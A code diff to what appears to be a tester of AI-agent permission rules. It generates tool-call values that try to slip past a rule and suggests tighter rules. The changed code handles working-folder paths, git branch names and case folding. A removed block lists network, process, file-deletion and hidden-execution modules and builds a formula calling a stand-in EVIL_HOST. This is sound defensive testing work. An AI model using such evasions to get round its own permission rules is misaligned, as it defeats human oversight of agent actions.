@@ -22,6 +22,7 @@ from workbench.clarify.written.attacked import (
     words_of,
 )
 from workbench.clarify.written.attempts import Attempt, Declaration, Try, instead, narrower
+from workbench.clarify.written.attempts_at_code import attempts_at_code
 from workbench.clarify.written.book import places, replaced
 from workbench.clarify.written.texts_beside import text_tests_in
 from workbench.dialect.call_fields import CallField
@@ -86,7 +87,7 @@ def attempts_at_texts(attacked: Attacked) -> Iterator[Attempt]:
             yield from _only_ending(attacked, one)
             yield from _word_of_line(attacked, one)
             yield from _other_ending(attacked, one)
-            yield from _other_module(attacked, one)
+            yield from attempts_at_code(attacked, one)
             yield from _other_word(attacked, one)
             yield from _written_otherwise(attacked, one)
             yield from _other_digits(attacked, one)
@@ -327,13 +328,17 @@ def _at_path(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         said = _not_plain(attacked, one, folder, past)
         plain = [narrower(attacked.rule, given(attacked, one, each)) for each in said]
         beside = attacked.with_value(attacked.base, one, "notes.txt")
-        is_placed = folder.startswith("/") or folder_of(attacked) != ""
-        advice = f'write cwd = "/…", where it works, under [tools.{attacked.tool}] in agent.toml'
+        logged = [*texts_held(attacked.logged, one)]
+        is_whole = bool(logged) and all(each.startswith(("/", "~")) for each in logged)
+        is_placed = folder_of(attacked) != "" or (folder.startswith("/") and is_whole)
+        cwd = _folder_told(attacked)
+        unplaced = f'write cwd = "/…", where it works, under [tools.{attacked.tool}] in agent.toml'
+        advice = Declaration(attacked.tool, cwd=cwd) if cwd else unplaced
         yield Attempt(
             "path",
             tries_with(attacked, one, past.texts, past.why),
             partial(_either, raw, typed_ones, plain),
-            declaring(attacked, one, "path") or advice * (not is_placed),
+            declaring(attacked, one, "path") or ("" if is_placed else advice),
             about=folder,
             harmless=(beside,) if not is_placed and attacked.allows(beside) else (),
         )
@@ -343,6 +348,20 @@ def folder_of(attacked: Attacked) -> str:
     """The folder in which relative paths of the tool begin; empty if it is not known, or one of Windows."""
     tool = next(tool for tool in attacked.book.agent.tools if tool.name == attacked.tool)
     return tool.cwd if tool.cwd.startswith("/") else ""
+
+
+def _folder_told(attacked: Attacked) -> str:
+    """The folder in which relative paths of the tool begin, as its description says; empty if it does not."""
+    tool = next(tool for tool in attacked.book.agent.tools if tool.name == attacked.tool)
+    found = _TOLD_FOLDER.search(
+        f"{tool.description} {' '.join(each.description for each in attacked.fields_read)}"
+    )
+    return "" if found is None else found[1].rstrip("./")
+
+
+_TOLD_FOLDER = re.compile(
+    r"\b(?:relative|works?|working|begins?|starts?|runs?)\b[^./]{0,40}\s(/[\w.-]+(?:/[\w.-]+)*)"
+)
 
 
 def _not_plain(attacked: Attacked, one: CallField, folder: str, past: _WayPast) -> Sequence[Tree]:
@@ -397,13 +416,13 @@ def _anywhere(attacked: Attacked, one: CallField, folder: str, past: _WayPast) -
         [*past.texts, *[f"{named}/x"] * (not (is_typed(one) and is_part))],
         past.why,
         past.typed if is_part else ("in", text(named), part(attacked, one, "names")),
-        None if is_typed(one) else begins,
+        None if is_typed(one) and folder_of(attacked) else begins,
     )
 
 
 def _relative(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A path from where the agent works, of a file in a folder that a rule closes from the root on."""
-    if one.kind or not attacked.is_raw(one):
+    if one.kind or not attacked.is_raw(one) or folder_of(attacked):
         return
     for folder in (bare.strip().rstrip("/") for bare in attacked.texts if bare.strip().startswith("/")):
         last = folder.rpartition("/")[2]
@@ -729,49 +748,6 @@ def _going_on(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         yield Attempt("name that goes on", tries, partial(list[Effect], effects), about=name)
 
 
-_CODE = frozenset(("formula", "code", "script", "program", "snippet", "source", "python"))
-_MODULES = (
-    ("reaches the network", ("requests", "urllib", "httpx", "http.client", "aiohttp", "socket", "ftplib",
-                             "smtplib", "paramiko", "websockets")),
-    ("starts processes", ("subprocess", "os.system", "os.popen", "os.spawn", "os.exec", "pty")),
-    ("deletes files", ("os.remove", "os.unlink", "os.rmdir", "shutil.rmtree", ".unlink(", ".rmdir(")),
-    ("fetches or sends something", ("IMPORTXML", "IMPORTDATA", "IMPORTHTML", "IMPORTFEED", "IMPORTRANGE",
-                                    "WEBSERVICE", "IMAGE", "HYPERLINK")),
-    ("runs code that is not seen", ("eval(", "exec(", "compile(", "__import__", "importlib")),
-)  # fmt: skip
-"""What code does, and names of Python by which it does so."""
-
-
-def _other_module(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
-    """Code that does by another name what a rule closes by the name in its text."""
-    if not _CODE & {*words_of(one.name)} or attacked.stops(attacked.with_value(attacked.base, one, "x = 1")):
-        return
-    value, texts = attacked.value_of(one), " ".join(attacked.texts)
-    for does, names in _MODULES:
-        named = [each for each in names if each.strip("(.") in re.findall(r"[\w.]+", texts)]
-        if not named or not attacked.stops(
-            attacked.with_value(attacked.base, one, _code_of(named[0], texts))
-        ):
-            continue
-        others = [each for each in names if not attacked.stops(attacked.with_value(attacked.base, one, each))]
-        tries = tries_with(
-            attacked, one, [_code_of(each) for each in others], f"it {does} as {named[0]} does"
-        )
-        said = joined("or", [("in", text(each), value) for each in names])
-        effects = [narrower(attacked.rule, given(attacked, one, said))]
-        yield Attempt("other module", tries, partial(list[Effect], effects), about=does)
-
-
-def _code_of(name: str, texts: str = "") -> str:
-    """Code with a name: that is imported, or called."""
-    known = next((each for each in (f"import {name}", f"from {name}") if each in texts), "")
-    if known:
-        return known
-    if name.isupper():
-        return f'={name}("https://{EVIL_HOST}/x")'
-    return f"a{name}b)" if "(" in name else f"{name}(a)" if "." in name else f"import {name}"
-
-
 _WORDS_ALIKE = tuple(
     row.split(", ")
     for row in (
@@ -1045,7 +1021,7 @@ def _spelling(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
                 continue
             told.add(bare)
             spelled = [*_other_cases(bare, known, is_whole=not before)]
-            if _BRANCHES & {*words_of(one.name)}:  # of which git tells the cases apart
+            if _names_branch(attacked, one):  # of which git tells the cases apart
                 spelled = [(f"{_REF}{bare}", f"git calls the branch “{bare}” so, too")]
             ids = [*_other_ids(bare)] if not before and not attacked.kind(one) else []
             advice, is_code = "", _CODES & {*words_of(one.name)}
@@ -1063,6 +1039,13 @@ def _spelling(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
             break
 
 
+def _names_branch(attacked: Attacked, one: CallField) -> bool:
+    """Whether a field has the name of a branch, by its own words or by those of its tool."""
+    own = {*words_of(one.name)}
+    return bool(_BRANCHES & own or ("branch" in words_of(attacked.tool) and _ENDS_OF_MERGES & own))
+
+
+_ENDS_OF_MERGES = frozenset(("target", "source", "into", "onto", "from", "to"))
 _CASES = frozenset(("lower", "upper"))
 
 
@@ -1114,10 +1097,10 @@ def _folding(attacked: Attacked, one: CallField, *, ids: bool = False) -> Sequen
     rule, whole = attacked.rule, attacked.value_of(one)
     condition = said = _with_lists(attacked, rule.condition)
     is_given = any(each == ("is some", whole) for _, each in places(condition))
-    values = [*_values(attacked, one)]
+    values, is_branch = [*_values(attacked, one)], _names_branch(attacked, one)
     for path, atom in places(condition):
         for value, bare in product(values, attacked.texts):
-            changed = _folded(atom, value, text(bare), ids=ids)
+            changed = _folded(atom, value, text(bare), ids=ids, is_branch=is_branch)
             if changed is not None and bare.strip():
                 is_field = value == whole and one.name not in attacked.texts_in_objects and not is_given
                 said = replaced(said, path, given(attacked, one, changed) if is_field else changed)
@@ -1148,9 +1131,9 @@ def _values(attacked: Attacked, one: CallField) -> Iterator[Tree]:
             yield atom[1]
 
 
-def _folded(atom: Tree, value: Tree, literal: Tree, *, ids: bool) -> Tree | None:
+def _folded(atom: Tree, value: Tree, literal: Tree, *, ids: bool, is_branch: bool) -> Tree | None:
     folded: Tree = ("method", ("method", value, "strip"), "lower")
-    if value[0] == "attr" and _BRANCHES & {*words_of(str(value[2]))}:
+    if is_branch:
         folded = ("method", folded, "removeprefix", text(_REF))
     small, *others = _small_forms(literal, ids=ids)
     bases = (value, *(("method", value, name) for name in ("strip", *sorted(_CASES))))
